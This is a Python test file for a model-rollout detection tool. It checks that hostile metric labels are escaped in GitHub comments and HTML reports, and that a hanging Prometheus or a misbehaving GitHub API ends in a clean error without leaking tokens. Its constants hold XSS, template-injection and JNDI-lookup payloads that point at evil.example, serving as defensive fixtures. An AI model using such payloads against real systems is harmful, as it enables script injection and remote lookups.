"""What others write ends as text, and a server that hangs or lies ends as a message: nothing is half-written."""

from __future__ import annotations

import json
import re
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
from markdown_it import MarkdownIt

from tests.runtime.detection.end_to_end.shop import (
    GATE_TOKEN,
    NAMESPACE,
    RANKER_NEW,
    RANKER_OLD,
    Pulls,
    Shop,
    settings,
)
from tests.runtime.detection.service.processes import run
from tests.support.github import Answer, Fault, GitHub
from tests.support.prometheus import prometheus, series
from tests.support.rollout_world import DAY, MINUTE, minutes, whole

HOSTILE = '46.1.0"><img src=x onerror=alert(1)> | `@everyone` ![](https://evil.example/a.png) --> </details>'
MODEL = (
    "<script>alert(1)</script>\n\n# @everyone [x](https://evil.example) {{ 7*7 }} ${jndi:ldap://evil.example}"
)
ALLOWED = re.compile(r"</?(details|summary|sub|br|code)>|<!-- modelway [^<>]* -->")
ONE = ("latency-p50",)


def hostile_past(shop: Shop) -> str:
    """A day of the ranker, whose new version has a hostile name, beside a model that has one, too."""
    random, times = np.random.default_rng(0), shop.times
    new = shop.lived[RANKER_NEW].as_pod(HOSTILE, RANKER_NEW.hash)
    first = times.now - 1.2 * DAY
    beside = {"namespace": NAMESPACE, "job": "x", "pod": "x", "model": MODEL, "version": HOSTILE}
    ready = [(at, 1.0) for at in minutes(times.ranker - 3 * MINUTE, times.now).tolist()]
    return whole(
        [
            shop.lived[RANKER_OLD].past(random, minutes(first, times.ranker + MINUTE)),
            new.past(random, minutes(times.ranker, times.now)),
            series("model_ready", beside, ready),
        ]
    )


def test_hostile_labels_end_as_text(shop: Shop, github: GitHub, pulls: Pulls, tmp_path: Path) -> None:
    with prometheus(tmp_path / "prometheus", openmetrics=hostile_past(shop)) as server:
        file = settings(tmp_path, server.url, github, ONE, history_s=DAY)
        page = tmp_path / "page.html"
        done = run(
            "detect", "--settings", file, "--model", "ranker", "--publish", "--format", "html",
            "--output", page, "--save", tmp_path / "saved",
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    [verdict] = [json.loads(each.read_text()) for each in (tmp_path / "saved").rglob("*.json")]
    assert verdict["rollout"]["version"] == HOSTILE
    assert [one["model"] for one in verdict["other_rollouts"]] == [MODEL]
    [comment] = github.comments(pulls.ranker)
    tags, words, addresses = parts(comment["body"])
    assert not [tag for tag in tags if not ALLOWED.fullmatch(tag)]
    assert "@everyone" not in words
    assert not [address for address in addresses if "evil.example" in address]
    assert comment["body"].count("<details>") == comment["body"].count("</details>")
    html = page.read_text()
    assert "<img src=x" not in html
    assert "<script>alert" not in html
    assert "onerror=alert(1)&gt;" in html, "it is shown, as text"
    for pull in github.pulls():
        if pull["number"] not in (pulls.ranker, pulls.encoder, *pulls.others):
            assert not re.search("<img|@everyone", pull["title"] + pull["body"])
    assert len(list((tmp_path / "saved").iterdir())) >= 2


def parts(markdown: str) -> tuple[list[str], str, list[str]]:
    """Of a comment as CommonMark with tables is read: HTML tags, words outside of code, and addresses."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    every = [child for token in tokens for child in (token, *(token.children or ()))]
    addresses = [str(one.attrs.get(name)) for one in every for name in ("href", "src") if one.attrs.get(name)]
    tags: list[str] = []
    words: list[str] = []
    depth = 0
    for one in every:
        if one.type in ("html_inline", "html_block"):
            tags += re.findall(r"<!--.*?-->|<[^>]*>?", one.content, re.DOTALL)
            depth += one.content.count("<code>") - one.content.count("</code>")
            words.append(re.sub(r"<!--.*?-->|<code>.*?</code>", "", one.content, flags=re.DOTALL))
        elif one.type == "text" and depth == 0:
            words.append(one.content)
    return tags, " ".join(words), addresses


@pytest.fixture
def hanging() -> Iterator[str]:
    """It takes connections and says nothing."""
    with socket.create_server(("127.0.0.1", 0), backlog=100) as server:
        yield f"http://127.0.0.1:{server.getsockname()[1]}"


def test_a_prometheus_that_hangs_ends_with_a_message(hanging: str, github: GitHub, tmp_path: Path) -> None:
    file = settings(tmp_path, hanging, github, ONE, timeout_s=1.0)
    output = tmp_path / "out.json"
    began = time.monotonic()
    done = run("detect", "--settings", file, "--model", "ranker", "--publish", "--output", output)
    assert time.monotonic() - began < 40
    assert (done.returncode, done.stdout) == (5, "")
    assert re.fullmatch(r"error: Prometheus at http://127\.0\.0\.1:\d+: .*within 1 s.*\n", done.stderr)
    assert not output.exists()
    once = run("watch", "--once", "--settings", file)
    assert once.returncode == 5
    events = [json.loads(line) for line in once.stdout.splitlines()]
    assert {(one["event"], one["model"]) for one in events} == {("failure", "ranker"), ("failure", "encoder")}
    assert github.requests == []
    everything = done.stderr + once.stdout + once.stderr
    assert not [secret for secret in (github.token, GATE_TOKEN) if secret in everything]
    assert {each.name for each in tmp_path.iterdir()} == {
        "settings.json",
        "gate-token",
        "forge-token",
        "memory",
    }


Lie = Callable[[str, Answer], Answer]


def same_page() -> Lie:
    """The first page again and again, each time with a next one."""
    first: list[Answer] = []

    def lie(_path: str, answer: Answer) -> Answer:
        first.append(answer)
        link = '<http://localhost/next?page=2>; rel="next"'
        return first[0][0], {**first[0][1], "link": link}, first[0][2]

    return lie


def something_else() -> Lie:
    return lambda _path, answer: (answer[0], answer[1], b'{"message": "here are your comments"}')


@pytest.mark.parametrize(
    ("lie", "words"), [(same_page, "same page"), (something_else, "not what its API promises")]
)
def test_a_github_that_lies_about_pages_is_told_and_nothing_is_written(
    shop: Shop, github: GitHub, pulls: Pulls, tmp_path: Path, lie: Callable[[], Lie], words: str
) -> None:
    github.comment(pulls.ranker, "a comment of somebody", github.other_token)
    file = settings(tmp_path, shop.prometheus.url, github, ONE, history_s=DAY)
    github.faults.append(Fault(r"GET .*/issues/\d+/comments", times=10**6, change=lie()))
    made = len(github.requests)
    done = run("detect", "--settings", file, "--model", "ranker", "--publish")
    assert (done.returncode, done.stdout) == (5, ""), done.stderr
    assert done.stderr.startswith("error: GitHub")
    assert words in done.stderr
    assert not [one for one in github.requests[made:] if not one.startswith("GET")]
    assert len(github.comments(pulls.ranker)) == 1
